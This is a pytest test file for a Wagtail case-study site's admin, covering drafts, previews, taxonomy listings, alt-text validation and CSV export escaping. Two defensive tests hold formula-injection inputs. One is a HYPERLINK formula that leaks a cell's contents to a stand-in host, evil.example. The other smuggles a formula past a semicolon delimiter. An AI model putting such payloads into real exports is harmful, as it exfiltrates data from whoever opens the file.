"""Editors can add, edit, preview and publish case studies and taxonomy in the Wagtail admin."""

import csv
import io
import json

import pytest

from django.contrib.auth import get_user_model
from django.urls import reverse

from wagtail.models import Revision

from cases.interchange.importer import CaseImporter
from cases.models import CaseIndexPage, CaseStudyPage, Organisation, Platform, Theme
from tests.cases.test_interchange_import import record

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor(client):
    user = get_user_model().objects.create_superuser("editor", "editor@example.org", "pw")
    client.force_login(user)
    return client


def test_the_case_study_edit_and_add_forms_render(editor, make_case):
    case = make_case()
    assert editor.get(reverse("wagtailadmin_pages:edit", args=[case.pk])).status_code == 200
    library = CaseIndexPage.objects.get()
    add = reverse("wagtailadmin_pages:add", args=["cases", "casestudypage", library.pk])
    assert editor.get(add).status_code == 200


def test_saving_a_draft_keeps_the_published_version_live(editor, make_case, client):
    case = make_case(title="Published title")
    case.title = "Draft title"
    case.save_revision()
    case.refresh_from_db()
    assert case.has_unpublished_changes
    assert Revision.objects.filter(object_id=str(case.pk)).count() == 2
    page = editor.get(case.url).content.decode()
    assert "Published title" in page and "Draft title" not in page
    preview = editor.get(reverse("wagtailadmin_pages:view_draft", args=[case.pk]))
    assert "Draft title" in preview.content.decode()


@pytest.mark.parametrize("model", [Theme, Organisation, Platform])
def test_taxonomy_snippets_are_listed_in_the_admin(editor, model):
    url = reverse(f"wagtailsnippets_cases_{model._meta.model_name}:list")
    assert editor.get(url).status_code == 200


def test_a_case_cannot_be_published_without_alt_text_for_its_hero_image(make_case):
    from django.core.exceptions import ValidationError

    from tests.factories import ImageFactory

    case = CaseStudyPage.objects.get(pk=make_case().pk)
    case.hero_image = ImageFactory()
    case.hero_alt = ""
    with pytest.raises(ValidationError):
        case.full_clean()


def test_the_admin_csv_downloads_never_start_a_formula(editor):
    """Wagtail writes page titles and user names into its report CSVs as they are; the
    site's cell rule applies there too (a contributed title reaches the site history)."""
    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    CaseImporter().run([json.dumps(record(title=title))])
    response = editor.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    names = [row["Name"] for row in csv.DictReader(io.StringIO(content))]
    assert names and set(names) == {"'" + title}


def test_the_admin_csv_downloads_quote_every_cell(editor):
    """Excel in French or German splits a CSV on ";": "Flood;=1+1" unquoted would start a
    new cell with a formula."""
    CaseImporter().run([json.dumps(record(title="Flood appeal;=1+1"))])
    response = editor.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    for line in content.splitlines()[1:]:
        cells = list(csv.reader([line], delimiter=";"))[0]
        assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))], line
